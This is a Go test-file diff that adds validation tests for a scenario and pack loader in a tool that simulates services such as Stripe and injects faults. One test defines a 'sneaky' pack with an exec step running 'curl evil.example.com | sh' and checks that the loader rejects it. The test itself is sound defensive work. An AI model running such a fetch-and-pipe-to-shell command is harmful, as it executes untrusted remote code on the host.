@@ -3,6 +3,8 @@ package v2
 import (
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
 )
 
@@ -241,3 +243,169 @@ func TestLoadScenario_WithBody(t *testing.T) {
 		t.Errorf("expected body_contains 'value', got %q", s.Steps[0].Assert.BodyContains)
 	}
 }
+
+func TestLoadPack(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "pack.json")
+	content := `{
+  "name": "payments-happy-path",
+  "scenarios": [
+    {"name": "first", "steps": [{"name": "s1", "request": {"method": "GET", "url": "http://localhost:1/"}}]},
+    {"name": "second", "steps": [{"name": "s2", "request": {"method": "GET", "url": "http://localhost:1/"}}]}
+  ]
+}`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := LoadPack(path)
+	if err != nil {
+		t.Fatalf("LoadPack() error: %v", err)
+	}
+	if p.Name != "payments-happy-path" {
+		t.Errorf("expected name 'payments-happy-path', got %q", p.Name)
+	}
+	if len(p.Scenarios) != 2 {
+		t.Fatalf("expected 2 scenarios, got %d", len(p.Scenarios))
+	}
+}
+
+func TestLoadPack_InvalidScenario(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "pack.json")
+	content := `{"name": "broken", "scenarios": [{"name": "no steps", "steps": []}]}`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := LoadPack(path); err == nil {
+		t.Fatal("expected error for scenario without steps")
+	}
+}
+
+func TestLoadPack_ExecStep(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "pack.json")
+	content := `{"name": "sneaky", "scenarios": [{"name": "pay", "steps": [
+		{"name": "list", "request": {"method": "GET", "url": "{{twins.stripe.url}}/v1/charges"}},
+		{"name": "run", "exec": {"command": ["sh", "-c", "curl evil.example.com | sh"]}}
+	]}]}`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	_, err := LoadPack(path)
+	if err == nil || !strings.Contains(err.Error(), "packs cannot contain exec steps") {
+		t.Fatalf("expected exec steps refused, got %v", err)
+	}
+}
+
+func TestLoadPack_Incident(t *testing.T) {
+	scenarios := `"scenarios": [{"name": "s", "steps": [{"name": "s1", "request": {"method": "GET", "url": "http://localhost:1/"}}]}]`
+	fault := `{"name": "outage", "inject_fault": {"twin": "stripe", "endpoint": "/v1/charges", "status_code": 503, "duration": "15m"}}`
+	tests := []struct {
+		name     string
+		incident string
+		wantErr  string
+	}{
+		{"valid", `{"summary": "5xx", "chaos": {"resend": "slow"}, "steps": [` + fault + `]}`, ""},
+		{"no summary", `{"steps": [` + fault + `]}`, "summary is required"},
+		{"nothing to apply", `{"summary": "5xx"}`, "at least one chaos profile or step"},
+		{"unknown profile", `{"summary": "5xx", "chaos": {"stripe": "meltdown"}}`, "not a chaos profile"},
+		{"request step", `{"summary": "5xx", "steps": [{"name": "r", "request": {"method": "GET", "url": "http://x"}}]}`, "must be admin steps"},
+		{"invalid step", `{"summary": "5xx", "steps": [{"name": "f", "inject_fault": {"twin": "stripe", "endpoint": "/v1/charges", "status_code": 42}}]}`, "status_code"},
+	}
+	for _, tt := range tests {
+		path := filepath.Join(t.TempDir(), "pack.json")
+		os.WriteFile(path, []byte(`{"name": "incident", "incident": `+tt.incident+`, `+scenarios+`}`), 0o644)
+		p, err := LoadPack(path)
+		if tt.wantErr != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("%s: expected error containing %q, got %v", tt.name, tt.wantErr, err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatalf("%s: unexpected error: %v", tt.name, err)
+		}
+		if got := p.Incident.Twins(); !reflect.DeepEqual(got, []string{"resend", "stripe"}) {
+			t.Errorf("expected the incident to change resend and stripe, got %v", got)
+		}
+	}
+}
+
+func TestLoadScenario_AdminStepValidation(t *testing.T) {
+	tests := []struct {
+		name    string
+		step    string
+		wantErr string
+	}{
+		{"valid fault", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","status_code":503}}`, ""},
+		{"bad status", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","status_code":42}}`, "status_code"},
+		{"scheduled fault", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","status_code":503,"after":"10m","duration":"5m","clock":"simulated"}}`, ""},
+		{"bad fault after", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","status_code":503,"after":"later"}}`, "after must be"},
+		{"bad fault clock", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","status_code":503,"clock":"lunar"}}`, "clock must be"},
+		{"preset fault", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","preset":"auth_expired"}}`, ""},
+		{"unknown preset", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","preset":"auth_gone"}}`, "preset must be"},
+		{"preset with status", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"/v1/charges","preset":"auth_invalid","status_code":401}}`, "cannot be combined"},
+		{"webhook fault", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"webhook:charge.succeeded","delay_ms":30000}}`, ""},
+		{"webhook fault with status", `{"name":"s","inject_fault":{"twin":"stripe","endpoint":"webhook:charge.succeeded","status_code":500}}`, "webhook faults take only"},
+		{"webhook fault without type", `{"name":"s","remove_fault":{"twin":"stripe","endpoint":"webhook:"}}`, "name an event type"},
+		{"bad endpoint", `{"name":"s","remove_fault":{"twin":"stripe","endpoint":"v1/charges"}}`, "endpoint must start with /"},
+		{"bad duration", `{"name":"s","advance_time":{"twin":"stripe","duration":"tomorrow"}}`, "invalid duration"},
+		{"empty config", `{"name":"s","set_config":{"twin":"stripe"}}`, "values must not be empty"},
+		{"missing quirk", `{"name":"s","enable_quirk":{"twin":"stripe"}}`, "quirk is required"},
+		{"two actions", `{"name":"s","advance_time":{"twin":"stripe","duration":"1h"},"enable_quirk":{"twin":"stripe","quirk":"q"}}`, "only one admin action"},
+		{"admin with request", `{"name":"s","request":{"method":"GET","url":"http://x"},"advance_time":{"twin":"stripe","duration":"1h"}}`, "cannot also define a request"},
+		{"no request", `{"name":"s"}`, "request method and url are required"},
+		{"exec", `{"name":"s","exec":{"command":["node","pay.js"],"exit_code":2},"capture":{"id":"$.id"}}`, ""},
+		{"exec without command", `{"name":"s","exec":{"command":[]}}`, "command is required"},
+		{"exec with request", `{"name":"s","request":{"method":"GET","url":"http://x"},"exec":{"command":["true"]}}`, "cannot also define a request"},
+		{"exec with assert", `{"name":"s","exec":{"command":["true"]},"assert":{"status":200}}`, "exec steps assert with"},
+		{"exec bad exit code", `{"name":"s","exec":{"command":["true"],"exit_code":300}}`, "exit_code must be"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "test.json")
+			content := `{"name":"admin","steps":[` + tt.step + `]}`
+			if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, err := LoadScenario(path)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("LoadScenario() error: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+		})
+	}
+}
+
+func TestLoadScenario_TimingValidation(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		wantErr string
+	}{
+		{"bad max_duration", `{"name":"s","max_duration":"soon","steps":[{"name":"a","request":{"method":"GET","url":"http://x"}}]}`, "max_duration"},
+		{"bad timeout", `{"name":"s","steps":[{"name":"a","timeout":"-1s","request":{"method":"GET","url":"http://x"}}]}`, "timeout"},
+		{"zero attempts", `{"name":"s","steps":[{"name":"a","retry":{"attempts":0},"request":{"method":"GET","url":"http://x"}}]}`, "retry.attempts"},
+		{"bad backoff", `{"name":"s","steps":[{"name":"a","retry":{"attempts":3,"backoff":"x"},"request":{"method":"GET","url":"http://x"}}]}`, "retry.backoff"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "test.json")
+			if err := os.WriteFile(path, []byte(tt.content), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, err := LoadScenario(path)
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+			}
+		})
+	}
+}